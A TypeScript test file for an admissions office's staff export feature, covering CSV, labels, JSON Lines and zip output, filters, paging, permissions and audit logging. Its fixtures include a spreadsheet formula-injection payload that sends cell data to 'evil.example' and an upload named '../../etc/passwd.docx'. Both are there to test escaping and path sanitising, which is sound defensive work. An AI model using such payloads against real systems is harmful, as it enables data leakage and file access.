// The office's exports on each database, each read back by a real consumer: the CSV and the labels
// file by csv-parse, the JSON Lines line by line, the zip by fflate and a PDF inside by pdf-lib.
// Applications are written straight into the database with the answers the tests compare against
// (complete answers with extra blocks, formula-looking answers, a choice without its stored label).
import { mkdtempSync, rmSync } from "node:fs";
import { get as httpGet } from "node:http";
import { Writable } from "node:stream";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { parse } from "csv-parse/sync";
import { unzipSync } from "fflate";
import { PDFDocument } from "pdf-lib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { definitions, labelOf, optionsOf } from "../support/definitions";
import { checklistFor, type Answers } from "../../src/engine/runtime";
import { finishPdfCopy, pdfCopyOf, startPdfCopy } from "../../src/server/data/pdf-copies";
import { storageKey } from "../../src/server/convert/documents";
import { COPY_NOT_READY, PIECE_LENGTH, writeExport, ZIP_COPIES_STARTED } from "../../src/server/exports/export";
import { messages } from "../../src/api-contract/messages";
import { EXPORT_DIRECT_LIMIT } from "../../src/api-contract/export-jobs";
import { completeApplication, databaseKinds, json, loggedInStaff, TEST_DAY, type Client, type TestServer, startTestServer } from "./harness";

const complete = completeApplication();
const TERM = complete.entry_term as string;
const LATER_TERM = optionsOf("entry_term")[1]!.value;
/** The applications of the paging test: a term of their own, many pages of the export (data/export-rows.ts). */
const BULK_TERM = "EX01";
const BULK = 1_100;
/** The applications of the download given up: 30 MB of CSV, more than the sockets between server and client hold. */
const LARGE_TERM = "EX02";
const LARGE = 300;

const FACTS = ["reference", "email", "status", "submitted_at", "review_status", "request_state", "decision", "decision_release_at", "decision_response"];
/** The shipped checklist's items, a column each after the facts. */
const CHECKLIST = definitions().checklist.map((item) => `checklist_${item.id}`);
/** Each item's state as the export writes it for `answers` with nothing received: needed where listed. */
const neededFor = (answers: Answers) => new Set(checklistFor(definitions(), answers).map((item) => item.id));
const FORMULAS = { first_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', last_name: "+1", middle_name: "-2", address_line_1: "@SUM(A1:A9)", city: "\tTabbed" };

/** Block 2 of an add-another group, answered as block 1 is (sibling_first_name → sibling_2_first_name). */
function secondBlock(group: string, answers: Answers): Answers {
  const [first, second] = definitions().blockGroups.get(group)!.blocks;
  return Object.fromEntries(first!.flatMap((key, i) => (answers[key] === undefined ? [] : [[second![i]!, answers[key]!]])));
}

type Record_ = Record<string, string>;

describe.each(databaseKinds())("the office's exports (%s)", (kind) => {
  let server: TestServer;
  let dataDir: string;
  let admin: Awaited<ReturnType<typeof loggedInStaff>>;
  const people: Record<"alice" | "bob" | "carol", { id: number; email: string; answers: Answers; reference: string | null }> = {} as never;

  async function insert(email: string, answers: Answers, submitted: { reference: string; review: string } | null) {
    const [user] = await server.db.query<{ id: number }>("INSERT INTO users (username, password_hash, created_at) VALUES ($1, 'x', $2) RETURNING id", [email, server.clock.now]);
    await server.db.query(
      "INSERT INTO applications (user_id, answers, updated_at, submitted_at, reference, review_status) VALUES ($1, $2::jsonb, $3, $4, $5, $6)",
      [user!.id, JSON.stringify(answers), server.clock.now, submitted && server.clock.now, submitted?.reference ?? null, submitted?.review ?? null],
    );
    return { id: user!.id, email, answers, reference: submitted?.reference ?? null };
  }
  const get = async (client: Client, url: string) => {
    const r = await client.get(url);
    expect(r.statusCode, r.body).toBe(200);
    return r;
  };
  const csv = (body: string) => parse(body, { columns: true, bom: true }) as Record_[];
  const auditOf = async () => (await server.db.query<{ actor: string; detail: Record<string, unknown> }>(
    "SELECT actor, detail FROM audit_log WHERE action = 'export' ORDER BY id")).map((row) => ({ actor: row.actor, detail: row.detail }));
  /** The audit entry is written once the stream has ended, which can be just after the answer's last byte. */
  const eventually = async <T>(read: () => Promise<T>, until: (value: T) => boolean): Promise<T> => {
    for (let i = 0; ; i++) {
      const value = await read();
      if (until(value) || i === 100) return value;
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
  };

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), "exports-"));
    server = await startTestServer(kind, { dataDir });
    admin = await loggedInStaff(server, "admin");
    people.alice = await insert("alice@example.com", complete, { reference: "WU-FA26-000001", review: "received" });
    // Bob: more blocks (a second high school, activity and sibling), formula-looking answers, and a choice stored without its label.
    const { gender_desc: _, ...withoutLabel } = complete;
    const bob = { ...withoutLabel, ...secondBlock("high_schools", complete), ...secondBlock("activities", complete), ...FORMULAS };
    people.bob = await insert("bob@example.com", bob, { reference: "WU-FA26-000002", review: "in review" });
    people.carol = await insert("carol@example.com", { first_name: "Carol", last_name: "Started", entry_term: LATER_TERM }, null);
    await server.db.query(
      "INSERT INTO users (username, password_hash, created_at) SELECT 'bulk' || i || '@example.org', 'x', $1 FROM generate_series(0, $2::int - 1) i ORDER BY i",
      [server.clock.now, BULK]);
    await server.db.query(
      `INSERT INTO applications (user_id, answers, updated_at)
       SELECT id, jsonb_build_object('first_name', 'Bulk' || substring(username FROM '^bulk(\\d+)@'), 'entry_term', $1::text), $2 FROM users WHERE username LIKE 'bulk%@example.org'`,
      [BULK_TERM, server.clock.now]);
    await server.db.query(
      "INSERT INTO users (username, password_hash, created_at) SELECT 'large' || i || '@example.org', 'x', $1 FROM generate_series(1, $2::int) i",
      [server.clock.now, LARGE]);
    await server.db.query(
      `INSERT INTO applications (user_id, answers, updated_at)
       SELECT id, jsonb_build_object('first_name', repeat('x', 100000), 'entry_term', $1::text), $2 FROM users WHERE username LIKE 'large%@example.org'`,
      [LARGE_TERM, server.clock.now]);
  });
  afterAll(async () => {
    await server.app.close();
    rmSync(dataDir, { recursive: true, force: true });
  });

  describe("the CSV", () => {
    it("has a header row of keys: the application's facts, then every answer key in page order, each choice's _desc beside it", async () => {
      const r = await get(admin, `/staff/api/exports/csv?term=${TERM}&status=submitted`);
      expect(r.headers["content-type"]).toBe("text/csv; charset=utf-8");
      expect(r.headers["content-disposition"]).toContain(`filename="applications-${TERM}-${TEST_DAY}.csv"`);
      // A byte order mark first, so a spreadsheet reads the file as UTF-8.
      expect(r.body.startsWith("\uFEFFreference,")).toBe(true);
      const [header] = parse(r.body, { to_line: 1, bom: true }) as string[][];
      expect(header).toEqual([...FACTS, ...CHECKLIST, ...definitions().owners.keys()]);
      const at = (key: string) => header!.indexOf(key);
      expect(at("gender_desc")).toBe(at("gender") + 1);
      expect(at("sibling_first_name")).toBeLessThan(at("sibling_2_first_name"));
      expect(at("hs_2_name")).toBeGreaterThan(at("hs_name"));
      expect(at("activity_5_name")).toBeGreaterThan(at("activity_name"));
    });

    it("has one row per application of the filter, its cells the stored answers, blocks flattened", async () => {
      const rows = csv((await get(admin, `/staff/api/exports/csv?term=${TERM}&status=submitted`)).body);
      expect(rows.map((row) => row.reference)).toEqual([people.alice.reference, people.bob.reference]);
      const [alice, bob] = rows as [Record_, Record_];
      expect(alice).toMatchObject({ email: "alice@example.com", status: "submitted", submitted_at: server.clock.now.toISOString(), review_status: "received" });
      for (const key of definitions().owners.keys()) {
        const stored = complete[key];
        expect(alice[key], key).toBe(stored === undefined ? "" : String(stored));
      }
      // Blocks: the second sibling as complete answers have it; Bob's second high school and activity, copied from his first.
      expect([alice.sibling_2_first_name, alice.sibling_2_relationship_desc]).toEqual([complete.sibling_2_first_name, complete.sibling_2_relationship_desc]);
      expect([bob.hs_2_name, bob.hs_2_state_desc, bob.activity_2_name]).toEqual([complete.hs_name, complete.hs_state_desc, complete.activity_name]);
      expect([alice.hs_2_name, alice.activity_2_name]).toEqual(["", ""]);
      expect(bob.review_status).toBe("in review");
    });

    it("gives each checklist item's state (empty where the answers leave it out), where requests for information stand, and the decision", async () => {
      const marked = definitions().checklist.find((item) => item.document === undefined && neededFor(people.bob.answers).has(item.id))!;
      await server.db.query("INSERT INTO checklist_marks (application_id, item, marked_by, marked_at) VALUES ($1, $2, $3, $4)", [people.bob.id, marked.id, admin.staffId, server.clock.now]);
      await server.db.query("UPDATE applications SET request_state = 'replied' WHERE user_id = $1", [people.bob.id]);
      await server.db.query(
        "INSERT INTO decisions (application_id, code, recorded_by, recorded_at, release_at, letter, response) VALUES ($1, 'admit', $2, $3, $3, 'Welcome.', 'accepted')",
        [people.bob.id, admin.staffId, server.clock.now]);
      try {
        const [alice, bob] = csv((await get(admin, `/staff/api/exports/csv?term=${TERM}&status=submitted`)).body) as [Record_, Record_];
        expect([alice.request_state, bob.request_state]).toEqual(["", "replied"]);
        expect([alice.decision, alice.decision_release_at, alice.decision_response]).toEqual(["", "", ""]);
        expect([bob.decision, bob.decision_release_at, bob.decision_response]).toEqual(["admit", server.clock.now.toISOString(), "accepted"]);
        for (const item of definitions().checklist) {
          expect(alice[`checklist_${item.id}`], item.id).toBe(neededFor(complete).has(item.id) ? "needed" : "");
          expect(bob[`checklist_${item.id}`], item.id).toBe(item === marked ? "received" : neededFor(people.bob.answers).has(item.id) ? "needed" : "");
        }
        const [, bobLine] = (await get(admin, `/staff/api/exports/jsonl?term=${TERM}&status=submitted`)).body.split("\n").map((line) => line && JSON.parse(line) as Record<string, unknown>);
        expect(bobLine).toMatchObject({
          request_state: "replied", checklist: expect.objectContaining({ [marked.id]: "received" }),
          decision: { code: "admit", release_at: server.clock.now.toISOString(), response: "accepted" },
        });
      } finally {
        await server.db.query("DELETE FROM checklist_marks WHERE application_id = $1", [people.bob.id]);
        await server.db.query("DELETE FROM decisions WHERE application_id = $1", [people.bob.id]);
        await server.db.query("UPDATE applications SET request_state = NULL WHERE user_id = $1", [people.bob.id]);
      }
    });

    it("writes a choice's label from the definitions, also where none was stored", async () => {
      const [, bob] = csv((await get(admin, `/staff/api/exports/csv?term=${TERM}&status=submitted`)).body) as [Record_, Record_];
      expect(people.bob.answers.gender_desc).toBeUndefined();
      expect(bob.gender_desc).toBe(optionsOf("gender").find((option) => option.value === complete.gender)!.label);
    });

    it("escapes cells that a spreadsheet would run as a formula", async () => {
      const [, bob] = csv((await get(admin, `/staff/api/exports/csv?term=${TERM}&status=submitted`)).body) as [Record_, Record_];
      for (const [key, value] of Object.entries(FORMULAS)) expect(bob[key], key).toBe(`'${value}`);
    });

    it("follows the filter: status, term, search", async () => {
      const references = async (query: string) => csv((await get(admin, `/staff/api/exports/csv?${query}`)).body).map((row) => row.email);
      expect(await references(`term=${LATER_TERM}`)).toEqual(["carol@example.com"]);
      expect(await references(`term=${TERM}&status=started`)).toEqual([]);
      expect(await references(`term=${TERM}&review=in%20review`)).toEqual(["bob@example.com"]);
      expect(await references("q=WU-FA26-000001")).toEqual(["alice@example.com"]);
      expect((await references(`status=started&term=${BULK_TERM}`)).length).toBe(BULK);
    });

    it("pages through the database: every one of 1,100 applications once, in order", async () => {
      const rows = csv((await get(admin, `/staff/api/exports/csv?term=${BULK_TERM}`)).body);
      expect(rows.map((row) => row.first_name)).toEqual(Array.from({ length: BULK }, (_, i) => `Bulk${i}`));
    });

    it("hands the response pieces of at most 32 K characters, or of one row longer than that, never a whole page of rows", async () => {
      // A string over 128 KB is a large object to V8, freed only by a full collection: pages of
      // them grew the heap by hundreds of MB over 100,000 applications.
      const pieces = async (term: string) => {
        const lengths: number[] = [];
        const out = new Writable({ decodeStrings: false, write: (piece: string, _encoding, done) => void (lengths.push(piece.length), done()) });
        const { rows } = await writeExport(server.ctx, "csv", { term, timeZone: "UTC" }, out);
        return { rows, lengths: lengths.slice(1) }; // after the header row
      };
      const bulk = await pieces(BULK_TERM);
      expect(bulk.rows).toBe(BULK);
      expect(Math.max(...bulk.lengths)).toBeLessThanOrEqual(PIECE_LENGTH);
      // Rows of 100,000 characters: one a piece.
      const large = await pieces(LARGE_TERM);
      expect(large.lengths.length).toBe(LARGE);
    });
  });

  it("gives the labels file: each column's key, question label and page", async () => {
    const r = await get(admin, "/staff/api/exports/labels");
    expect(r.headers["content-disposition"]).toContain(`filename="application-labels-${TEST_DAY}.csv"`);
    const rows = csv(r.body);
    expect(rows.map((row) => row.key)).toEqual([...FACTS, ...CHECKLIST, ...definitions().owners.keys()]);
    const byKey = new Map(rows.map((row) => [row.key, row]));
    const pageTitle = (key: string) => definitions().pages.find((page) => page.page === definitions().owners.get(key)!.page)!.title;
    expect(byKey.get("first_name")).toEqual({ key: "first_name", label: labelOf("first_name"), page: pageTitle("first_name") });
    expect(byKey.get("sibling_2_first_name")).toEqual({ key: "sibling_2_first_name", label: labelOf("sibling_2_first_name"), page: pageTitle("sibling_2_first_name") });
    expect(byKey.get("gender_desc")!.label).toContain(labelOf("gender"));
  });

  it("gives JSON Lines: one application per line, values as stored, _desc beside each choice", async () => {
    const r = await get(admin, `/staff/api/exports/jsonl?term=${TERM}&status=submitted`);
    expect(r.headers["content-type"]).toBe("application/x-ndjson; charset=utf-8");
    const lines = r.body.split("\n");
    expect(lines.at(-1)).toBe("");
    const [alice, bob] = lines.slice(0, -1).map((line) => JSON.parse(line) as { answers: Answers } & Record<string, unknown>);
    expect(alice).toEqual({
      reference: people.alice.reference, email: "alice@example.com", status: "submitted", submitted_at: server.clock.now.toISOString(),
      review_status: "received", request_state: null, decision: null, checklist: Object.fromEntries([...neededFor(complete)].map((id) => [id, "needed"])), answers: complete,
    });
    expect(Object.keys(alice!.answers).indexOf("gender_desc")).toBe(Object.keys(alice!.answers).indexOf("gender") + 1);
    // Data, not a sheet: formula-looking answers as they are; the label written from the definitions.
    expect(bob!.answers).toMatchObject({ ...FORMULAS, gender_desc: complete.gender_desc });
    expect(bob!.answers.hs_2_name).toBe(complete.hs_name);
  });

  describe("the zip", () => {
    it("holds each submitted application's PDF copy and documents under its reference, and notes a copy not made yet", async () => {
      const { alice, bob } = people;
      // Alice: a PDF copy made (by the job, in real life) and a document as uploaded and converted; a name that tries to leave the folder.
      const copy = await PDFDocument.create();
      copy.addPage();
      copy.addPage();
      const copyKey = storageKey("pdf", ".pdf");
      await server.ctx.storage.write(copyKey, Buffer.from(await copy.save()), "application/pdf");
      const version = (await server.db.query<{ updated_at: Date }>("SELECT updated_at FROM applications WHERE user_id = $1", [alice.id]))[0]!.updated_at;
      await startPdfCopy(server.db, alice.id, version, server.clock.now);
      await finishPdfCopy(server.db, alice.id, version, { status: "COMPLETED", pdfKey: copyKey, message: null }, server.clock.now);
      const [uploadKey, pdfKey] = [storageKey("documents", ".docx"), storageKey("documents", ".pdf")];
      await server.ctx.storage.write(uploadKey, Buffer.from("the résumé as uploaded"), "application/octet-stream");
      await server.ctx.storage.write(pdfKey, Buffer.from("%PDF-1.7 converted"), "application/pdf");
      const [documentKey] = server.ctx.form.documentKeys;
      await server.db.query(
        `INSERT INTO document_answers (user_id, answer_key, file_name, upload_key, file_size, pdf_key, status, updated_at)
         VALUES ($1, $2, '../../etc/passwd.docx', $3, 22, $4, 'COMPLETED', $5)`, [alice.id, documentKey, uploadKey, pdfKey, server.clock.now]);

      const r = await get(admin, `/staff/api/exports/zip?term=${TERM}`);
      expect(r.headers["content-type"]).toBe("application/zip");
      const files = unzipSync(new Uint8Array(r.rawPayload));
      const folder = `${alice.reference}/documents/${documentKey}`;
      expect(Object.keys(files).sort()).toEqual([
        `${alice.reference}/application.pdf`, `${folder}/converted.pdf`, `${folder}/original - _.._etc_passwd.docx`, `${bob.reference}/${COPY_NOT_READY}`,
      ].sort());
      expect((await PDFDocument.load(files[`${alice.reference}/application.pdf`]!)).getPageCount()).toBe(2);
      expect(Buffer.from(files[`${folder}/original - _.._etc_passwd.docx`]!).toString()).toBe("the résumé as uploaded");
      expect(Buffer.from(files[`${bob.reference}/${COPY_NOT_READY}`]!).toString()).toContain(bob.reference);
      // Bob's copy is on its way, for the next export.
      expect((await pdfCopyOf(server.db, bob.id))?.status).toBe("UNPROCESSED");
    });

    it(`starts at most ${ZIP_COPIES_STARTED} PDF copies, so applicants' own copies do not wait behind a large zip`, async () => {
      const term = "EX04";
      const count = ZIP_COPIES_STARTED + 3;
      await server.db.query(
        "INSERT INTO users (username, password_hash, created_at) SELECT 'copyless' || i || '@example.org', 'x', $1 FROM generate_series(1, $2::int) i",
        [server.clock.now, count]);
      await server.db.query(
        `INSERT INTO applications (user_id, answers, updated_at, submitted_at, reference, review_status)
         SELECT id, jsonb_build_object('entry_term', $1::text), $2, $2, 'WU-EX04-' || lpad(id::text, 6, '0'), 'received' FROM users WHERE username LIKE 'copyless%@example.org'`,
        [term, server.clock.now]);
      const files = unzipSync(new Uint8Array((await get(admin, `/staff/api/exports/zip?term=${term}`)).rawPayload));
      const notes = Object.entries(files).map(([, bytes]) => Buffer.from(bytes).toString());
      expect(notes).toHaveLength(count);
      expect(notes.filter((note) => note.includes("Making it has started"))).toHaveLength(ZIP_COPIES_STARTED);
      expect(notes.filter((note) => note.includes("start this one from the application's page"))).toHaveLength(3);
      const [{ n }] = await server.db.query<{ n: number }>(
        "SELECT count(*)::int AS n FROM pdf_copies WHERE user_id IN (SELECT id FROM users WHERE username LIKE 'copyless%@example.org')") as [{ n: number }];
      expect(n).toBe(ZIP_COPIES_STARTED);
    });
  });

  describe("who may export, and the audit log", () => {
    it("refuses readers and reviewers, and anyone without a session", async () => {
      for (const role of ["reader", "reviewer"] as const) {
        const r = await (await loggedInStaff(server, role)).get("/staff/api/exports/csv");
        expect([r.statusCode, json(r).message]).toEqual([403, messages.roleNeeded("admin")]);
      }
      const r = await server.app.inject({ url: "/staff/api/exports/csv" });
      expect([r.statusCode, json(r).message]).toEqual([401, messages.loginNeeded]);
    });

    it("refuses a bad filter or format with a message", async () => {
      for (const query of ["csv?status=sent", "csv?submitted_from=2026-13-01", "csv?term=" + "X".repeat(21), "xlsx", "csv?q=" + "x".repeat(201)]) {
        const r = await admin.get(`/staff/api/exports/${query}`);
        expect(r.statusCode, query).toBe(400);
        expect(typeof json(r).message).toBe("string");
      }
    });

    it("records every export with its format, filter and row count", async () => {
      const staff = await loggedInStaff(server, "admin");
      const before = (await auditOf()).length;
      await get(staff, `/staff/api/exports/csv?term=${TERM}&status=submitted`);
      await get(staff, `/staff/api/exports/jsonl?term=${LATER_TERM}`);
      const entries = await eventually(auditOf, (rows) => rows.length === before + 2);
      // Each is written once its download has ended; on PostgreSQL's pool the two may land in either order.
      const byFormat = (rows: typeof entries) => [...rows].sort((a, b) => String(a.detail.format).localeCompare(String(b.detail.format)));
      expect(byFormat(entries.slice(before))).toEqual([
        { actor: staff.email, detail: { format: "csv", filter: `term=${TERM}&status=submitted`, rows: 2, complete: true } },
        { actor: staff.email, detail: { format: "jsonl", filter: `term=${LATER_TERM}`, rows: 1, complete: true } },
      ]);
    });

    it("records an export the browser gave up midway as incomplete, with the rows written by then", async () => {
      const address = await server.app.listen({ port: 0, host: "127.0.0.1" });
      const staff = await loggedInStaff(server, "admin");
      const before = (await auditOf()).length;
      // The first bytes arrive, then the browser goes away (the socket closes).
      await new Promise<void>((resolve, reject) => {
        const request = httpGet(`${address}/staff/api/exports/csv?term=${LARGE_TERM}`, {
          headers: { cookie: `${server.ctx.staffCookie.name}=${staff.cookies.get(server.ctx.staffCookie.name)}` },
        }, (response) => {
          expect(response.statusCode).toBe(200);
          response.once("data", () => {
            request.destroy();
            resolve();
          });
        });
        request.on("error", reject);
      });
      const entries = await eventually(auditOf, (rows) => rows.length === before + 1);
      const { detail } = entries.at(-1)!;
      expect(detail).toMatchObject({ format: "csv", filter: `term=${LARGE_TERM}`, complete: false });
      expect(detail.rows).toBeLessThan(LARGE);
    });
  });

  // Last: the applications it adds would be over the limit in any export not filtered by term.
  it(`refuses a direct download of more than ${EXPORT_DIRECT_LIMIT.toLocaleString("en-US")} applications, as the browser would start a job`, async () => {
    const term = "EX03";
    await server.db.query(
      "INSERT INTO users (username, password_hash, created_at) SELECT 'many' || i || '@example.org', 'x', $1 FROM generate_series(1, $2::int) i",
      [server.clock.now, EXPORT_DIRECT_LIMIT + 1]);
    await server.db.query(
      `INSERT INTO applications (user_id, answers, updated_at)
       SELECT id, jsonb_build_object('entry_term', $1::text), $2 FROM users WHERE username LIKE 'many%@example.org'`,
      [term, server.clock.now]);
    for (const format of ["csv", "jsonl"]) {
      const r = await admin.get(`/staff/api/exports/${format}?term=${term}`);
      expect([r.statusCode, json(r)], format).toEqual([422, { message: messages.exportTooLarge(EXPORT_DIRECT_LIMIT + 1, EXPORT_DIRECT_LIMIT), code: "exportTooLarge" }]);
    }
    expect(messages.exportTooLarge(EXPORT_DIRECT_LIMIT + 1, EXPORT_DIRECT_LIMIT)).toMatch(/^5,001 applications match: an export of more than 5,000 is made in the background\./);
    // The labels describe the columns, not applications; and one application fewer is a download.
    expect((await admin.get("/staff/api/exports/labels")).statusCode).toBe(200);
    await server.db.query("DELETE FROM applications WHERE user_id = (SELECT id FROM users WHERE username = 'many1@example.org')");
    expect((await get(admin, `/staff/api/exports/csv?term=${term}`)).statusCode).toBe(200);
  });
});
